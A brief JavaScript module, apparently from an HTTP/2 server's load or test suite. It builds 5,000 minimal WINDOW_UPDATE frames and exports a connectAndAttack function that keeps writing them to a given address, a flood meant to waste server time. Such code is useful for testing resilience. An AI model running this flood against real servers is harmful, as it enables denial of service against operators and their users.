import { numberFrame, WINDOW_UPDATE } from "../../bench/load/frames.mjs";
import { keepWriting } from "../support/http2.mjs";

/** The least credit for answers, over and over: each frame costs time and asks for nothing. */
const frames = Buffer.concat(Array.from({ length: 5_000 }, () => numberFrame(WINDOW_UPDATE, 0, 1)));

export function connectAndAttack(address) {
  return keepWriting(address, () => frames);
}
